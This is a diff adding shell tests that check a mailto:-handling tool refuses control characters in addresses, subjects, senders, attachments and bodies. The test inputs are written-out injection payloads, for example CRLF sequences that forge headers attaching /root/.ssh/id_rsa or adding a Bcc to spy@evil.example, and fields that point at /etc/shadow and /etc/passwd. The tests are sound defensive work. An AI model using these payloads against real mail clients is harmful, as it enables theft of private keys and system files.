@@ -29,6 +29,24 @@ to='carol@example.org,ann@example.org,bob@example.org,dan@example.org',cc='frank
   compose thunderbird
 check "mailto: URI: the body" 0 'Hi, all' '' -- text "$(body_file thunderbird)"
 
+# Control characters are refused before anything reaches the client, where they would forge a header line
+# in Eudora's message file, inject a field into Thunderbird's argument or cut an address short at a NUL.
+refused() {  # refused FIELD CODE POSITION ARGUMENT...
+  check "$1 with U+$2" 2 '' "^quorvel: $1 holds a control character \\(U\\+$2\\) at character $3\$" -- \
+    "$quorvel" send "${@:4}"
+}
+refused 'To address 1' 000D 16 \
+  'mailto:ann@example.org%0D%0AX-Attachments:%20/root/.ssh/id_rsa?subject=Hi%0D%0ABcc:%20spy@evil.example'
+refused 'To address 1' 0001 16 'mailto:ann@example.org%01attachment=file:///etc/shadow%01x'
+refused 'To address 1' 0000 2 'mailto:a%00b@x,c@d'
+refused 'the subject' 000D 6 --subject $'Grüße\r\nBcc: spy@evil.example' ann@example.org
+refused 'the sender' 0009 4 --from $'ann\t@example.org' bob@example.org
+refused 'Cc address 2' 001B 1 --cc bob@example.org --cc $'\e[2Jcarol@example.org' ann@example.org
+refused 'Bcc address 1' 007F 4 --bcc $'bob\x7f@example.org' ann@example.org
+refused 'attachment 1' 000A 1 --attach $'\n/etc/passwd' ann@example.org
+refused 'the body' 0000 3 'mailto:ann@example.org?body=Hi%00there'
+check "nothing refused reached the client" 0 '' '' -- test ! -e "$root/records/thunderbird"
+
 desktop generic
 mail_client mailer Mailer %u
 check "any other client: the mailto: link" 0 '' '^$' -- \
